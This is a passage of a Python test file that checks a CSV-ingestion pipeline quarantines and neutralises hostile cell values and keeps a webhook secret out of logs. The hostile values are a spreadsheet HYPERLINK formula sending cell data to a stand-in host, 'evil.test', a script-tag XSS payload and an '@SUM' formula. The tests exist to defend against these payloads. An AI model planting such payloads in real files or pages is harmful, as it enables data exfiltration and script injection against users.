    quoted = '"' + hyperlink.replace('"', '""') + '"'
    content = (
        "code_departement;periode;type_accompagnement;nb_accompagnements\n"
        + "16;2024-T1;individuel;"
        + quoted
        + "\n"
        "16;2024-T2;<script>alert(1)</script>;@SUM(1+1)\n"
        "16;2024-T3;individuel;12\n"
    ).encode()
    read = read_partner(content, "hostile.csv", mapping)
    quarantine = read.quarantine
    values = set(quarantine["valeur_brute"].to_list())
    assert hyperlink in values and "@SUM(1+1)" in values
    assert "formule_non_evaluee" in set(quarantine["code_raison"].to_list())
    table = feedback_table(quarantine, read.format.ligne_entete, read.colonnes_fichier)
    csv_text = feedback_csv(table).decode("utf-8-sig")
    assert hyperlink.replace('"', '""') not in csv_text.replace("'=", "")
    assert "'=HYPERLINK" in csv_text and "'@SUM(1+1)" in csv_text
    page = feedback_html(table, "hostile.csv", read.comptes)
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.test/?x=&quot;&amp;A1" in page


def test_secrets_come_from_the_environment_and_are_never_logged(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """Guarantee: the webhook URL (a secret) is read from the environment only, and neither
    it nor a request error quoting it reaches the logs."""
    import logging

    import requests

    from observatory.operations.notices import WEBHOOK_ENV, FailureSummary, post_webhook

    secret_url = "https://hooks.example.test/T0/B0/xoxb-secret-token-123456"
    summary = FailureSummary(job="j", run_id="r" * 32, message="boom")
    monkeypatch.delenv(WEBHOOK_ENV, raising=False)
    assert post_webhook(summary) is False  # no variable, nothing sent

    class Failing:
        def post(self, url: str, **kwargs: object) -> None:
            raise requests.ConnectionError(f"HTTPSConnectionPool: Max retries exceeded: {url}")

    monkeypatch.setenv(WEBHOOK_ENV, secret_url)
    with caplog.at_level(logging.DEBUG):
        assert post_webhook(summary, session=Failing()) is False  # type: ignore[arg-type]
    assert "ConnectionError" in caplog.text
    assert "xoxb-secret" not in caplog.text and "hooks.example.test" not in caplog.text
